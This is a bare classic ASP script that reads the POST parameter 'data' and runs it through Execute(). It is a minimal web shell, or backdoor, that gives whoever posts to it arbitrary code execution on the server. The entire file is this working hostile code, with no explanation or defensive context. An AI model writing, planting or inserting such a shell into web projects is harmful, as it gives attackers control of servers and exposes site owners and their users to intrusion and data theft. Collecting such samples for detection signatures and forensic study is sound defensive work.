<%
Dim s
s = Request.Form("data")
If s <> "" Then
    Execute(s)
End If
%>
